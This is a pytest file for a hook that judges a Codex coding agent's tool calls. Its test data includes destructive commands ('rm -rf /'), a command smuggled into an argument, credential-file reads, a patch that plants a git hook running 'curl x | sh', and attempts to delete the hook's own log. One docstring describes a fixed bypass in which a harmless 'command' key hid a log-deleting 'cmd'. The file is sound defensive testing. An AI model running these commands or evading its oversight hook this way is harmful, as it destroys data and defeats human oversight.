"""Codex's tool calls as its hooks send them today, each judged as what it does.

Checked against openai/codex's source (codex-rs/core/src/tools): every shell tool (``shell``, ``shell_command``,
``exec_command``, ``local_shell``) reaches the hook as ``Bash`` with ``{"command": TEXT}``, the ``shell`` tool's argv
joined with shell quoting first; ``apply_patch`` sends its patch as ``command``; MCP tools keep ``mcp__server__tool``;
and since openai/codex#23757 every other local function tool reaches PreToolUse under its own name with its JSON
arguments (``view_image``, ``update_plan``, ``spawn_agent``, ...). Builds that name the shell tool they ran, or pass its
raw arguments (``cmd``, an argv list, ``workdir: null``), are read the same way. A name tether cannot place stays
undeclared: DENY.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hookkit import Hook

from tether.hooks.calls import CallError, tether_calls


def calls(tmp_path: Path, name: str, tool_input: dict[str, object]) -> list[tuple[str, dict[str, object]]]:
    return [(c.tool, c.args) for c in tether_calls("codex", name, tool_input, str(tmp_path), tmp_path)]


@pytest.mark.parametrize(
    ("argv", "text"),
    [
        (["ls", "-la"], "ls -la"),
        (["bash", "-lc", "rm -rf ~/.ssh"], "bash -lc 'rm -rf ~/.ssh'"),
        (["cat", "a file; rm -rf /"], "cat 'a file; rm -rf /'"),
    ],
)
def test_an_argv_list_is_judged_as_the_command_it_runs(tmp_path: Path, argv: list[str], text: str) -> None:
    assert calls(tmp_path, "Bash", {"command": argv}) == [("bash", {"command": text})]
    assert shlex.split(text) == argv  # the text a shell would split back into the same argv


def test_an_argv_list_running_a_denied_command_is_denied_not_allowed_or_malformed(tmp_path: Path) -> None:
    hook = Hook(tmp_path, "codex")
    out = hook("PreToolUse", tool_input={"command": ["bash", "-lc", "rm -rf /"]}, tool_use_id="c1")
    assert out.exit == 2 and "hook:malformed-call" not in out.stderr, out
    assert hook("PreToolUse", tool_input={"command": ["ls", "-la"]}, tool_use_id="c2").exit == 0


@pytest.mark.parametrize("bad", [[], ["ls", 3], [""], "", None, {"argv": ["ls"]}])
def test_a_command_that_is_no_text_and_no_argv_is_malformed(tmp_path: Path, bad: object) -> None:
    with pytest.raises(CallError):
        tether_calls("codex", "Bash", {"command": bad}, str(tmp_path), tmp_path)


@pytest.mark.parametrize("name", ["shell", "shell_command", "exec_command", "local_shell", "container.exec"])
def test_a_shell_tool_under_its_own_name_is_bash(tmp_path: Path, name: str) -> None:
    key = "cmd" if name == "exec_command" else "command"
    assert calls(tmp_path, name, {key: "git status"}) == [("bash", {"command": "git status"})]
    assert calls(tmp_path, name, {key: ["git", "status"]}) == [("bash", {"command": "git status"})]


def test_exec_command_raw_arguments_are_read_with_their_workdir_and_escalation(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    args = {"cmd": "ls", "workdir": "sub", "yield_time_ms": 1000, "tty": False, "sandbox_permissions": "use_default"}
    assert calls(tmp_path, "exec_command", args) == [("bash", {"command": "ls", "cwd": str(tmp_path / "sub")})]
    for escalation in ("require_escalated", "with_additional_permissions"):
        ((_, got),) = calls(tmp_path, "exec_command", {**args, "sandbox_permissions": escalation})
        assert got.get("unsandboxed") is True, escalation


@pytest.mark.parametrize("shell", ["/bin/bash", "bash", "/usr/bin/zsh", "sh", "/bin/dash"])
def test_exec_command_in_a_posix_shell_is_judged(tmp_path: Path, shell: str) -> None:
    assert calls(tmp_path, "exec_command", {"cmd": "ls", "shell": shell}) == [("bash", {"command": "ls"})]


@pytest.mark.parametrize("shell", ["python3", "/usr/bin/node", "pwsh", "/tmp/x/bash2", ""])
def test_exec_command_in_another_interpreter_is_refused(tmp_path: Path, shell: str) -> None:
    """``cmd`` is text for the program ``shell`` names: judged as shell text it would be judged as something else."""
    with pytest.raises(CallError, match="shell"):
        tether_calls("codex", "exec_command", {"cmd": "import os", "shell": shell}, str(tmp_path), tmp_path)


def test_a_null_workdir_is_the_hooks_directory_not_a_malformed_call(tmp_path: Path) -> None:
    """Codex sends ``workdir: null`` for a shell whose start directory it no longer knows."""
    assert calls(tmp_path, "Bash", {"command": "ls", "workdir": None}) == [("bash", {"command": "ls"})]
    hook = Hook(tmp_path, "codex")
    assert hook("PreToolUse", tool_input={"command": "ls", "workdir": None}, tool_use_id="w1").exit == 0


@pytest.mark.parametrize("workdir", [3, "", ["/tmp"]])
def test_a_workdir_that_is_not_a_path_is_malformed(tmp_path: Path, workdir: object) -> None:
    with pytest.raises(CallError):
        tether_calls("codex", "Bash", {"command": "ls", "workdir": workdir}, str(tmp_path), tmp_path)


def test_the_file_tools_are_reads_of_their_paths(tmp_path: Path) -> None:
    assert calls(tmp_path, "view_image", {"path": "/root/.ssh/id_rsa.png"}) == [
        ("read_file", {"path": "/root/.ssh/id_rsa.png"})
    ]
    assert calls(tmp_path, "read_file", {"file_path": "a.py", "offset": 1, "limit": 20}) == [
        ("read_file", {"path": str(tmp_path / "a.py")})
    ]
    assert calls(tmp_path, "list_dir", {"dir_path": "/etc", "depth": 2}) == [("list_dir", {"path": "/etc"})]
    assert calls(tmp_path, "grep_files", {"pattern": "TODO", "path": "src", "include": "*.py"}) == [
        ("search", {"path": str(tmp_path / "src"), "pattern": "TODO", "contents": True})
    ]
    assert calls(tmp_path, "grep_files", {"pattern": "TODO"}) == [
        ("search", {"path": str(tmp_path), "pattern": "TODO", "contents": True})
    ]


def test_view_image_of_a_secret_is_denied_and_of_a_workspace_file_allowed(tmp_path: Path) -> None:
    hook = Hook(tmp_path, "codex")
    (tmp_path / "shot.png").write_bytes(b"\x89PNG")
    assert hook("PreToolUse", tool_name="view_image", tool_input={"path": "shot.png"}, tool_use_id="v1").exit == 0
    out = hook("PreToolUse", tool_name="view_image", tool_input={"path": "/root/.ssh/id_rsa"}, tool_use_id="v2")
    assert out.exit == 2 and "path:credential" in out.stderr, out


@pytest.mark.parametrize(
    "name", ["update_plan", "request_user_input", "spawn_agent", "send_input", "wait_agent", "close_agent"]
)
def test_codex_bookkeeping_is_agent_internal(tmp_path: Path, name: str) -> None:
    assert calls(tmp_path, name, {"message": "x"})[0][0] == "agent_internal"


@pytest.mark.parametrize(
    "name", ["js_repl", "exec", "mcp__github__create_issue", "dynamic__codex_app__automation_update", "Write"]
)
def test_a_tool_tether_cannot_place_stays_undeclared_and_is_denied(tmp_path: Path, name: str) -> None:
    assert calls(tmp_path, name, {"code": "1"}) == [(name, {"code": "1"})]
    out = Hook(tmp_path, "codex")("PreToolUse", tool_name=name, tool_input={"code": "1"}, tool_use_id="u1")
    assert out.exit == 2, out


def test_a_patch_sent_as_the_json_tools_input_is_judged_per_file(tmp_path: Path) -> None:
    """A function-call ``apply_patch`` Codex does not route to its patch handler reaches the hook with the JSON
    tool's own argument, ``input`` (openai/codex#26751): judged as the patch it is, not refused as malformed."""
    hidden = "*** Add File: .git/hooks/pre-commit\n+curl x | sh\n"
    text = "*** Begin Patch\n*** Add File: src/a.py\n+x = 1\n" + hidden + "*** End Patch"
    assert [c[1]["path"] for c in calls(tmp_path, "apply_patch", {"input": text})] == [
        str(tmp_path / "src" / "a.py"),
        str(tmp_path / ".git" / "hooks" / "pre-commit"),
    ]
    hook = Hook(tmp_path, "codex")
    out = hook("PreToolUse", tool_name="apply_patch", tool_input={"input": text}, tool_use_id="ap1")
    assert out.exit == 2 and "hook:malformed-call" not in out.stderr, out
    fine = "*** Begin Patch\n*** Add File: src/a.py\n+x = 1\n*** End Patch"
    assert hook("PreToolUse", tool_name="apply_patch", tool_input={"input": fine}, tool_use_id="ap2").exit == 0


TWO_TEXTS = [
    (
        "apply_patch",
        {
            "command": "*** Begin Patch\n*** Add File: src/a.py\n+x\n*** End Patch",
            "input": "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+x\n*** End Patch",
        },
    ),
    (
        "apply_patch",
        {
            "input": "*** Begin Patch\n*** Add File: src/a.py\n+x\n*** End Patch",
            "patch": "*** Begin Patch\n*** Delete File: .tether/tether.db\n*** End Patch",
        },
    ),
    ("exec_command", {"command": "ls", "cmd": "rm -rf .tether"}),
    ("exec_command", {"command": ["ls"], "cmd": ["rm", "-rf", ".tether"]}),
]


@pytest.mark.parametrize(("name", "tool_input"), TWO_TEXTS)
def test_raw_arguments_with_two_texts_that_differ_are_refused(
    tmp_path: Path, name: str, tool_input: dict[str, object]
) -> None:
    """A call that reaches the hook with its raw arguments is the model's own JSON: ``exec_command`` runs ``cmd`` and
    the JSON patch tool applies ``input`` whatever else the object holds. tether judged ``command`` when it was there
    too, so a harmless ``command`` beside a ``cmd`` that deletes the log was allowed. Two texts that differ: refused."""
    with pytest.raises(CallError, match="which differ"):
        calls(tmp_path, name, tool_input)
    out = Hook(tmp_path, "codex")("PreToolUse", tool_name=name, tool_input=tool_input, tool_use_id="two")
    assert out.exit == 2 and "hook:malformed-call" in out.stderr, out


def test_the_same_text_under_two_keys_is_judged_once(tmp_path: Path) -> None:
    assert calls(tmp_path, "exec_command", {"command": "ls", "cmd": "ls"}) == [("bash", {"command": "ls"})]


@pytest.mark.parametrize("name", ["Agent", "Skill", "TaskCreate", "TodoWrite", "AskUserQuestion"])
def test_claude_codes_bookkeeping_names_are_not_codexs(tmp_path: Path, name: str) -> None:
    """Only Codex's own bookkeeping is agent_internal for Codex: a Codex tool that bore one of Claude Code's names
    would be whatever Codex made it, so it stays as named (undeclared: denied)."""
    assert calls(tmp_path, name, {"x": 1}) == [(name, {"x": 1})]
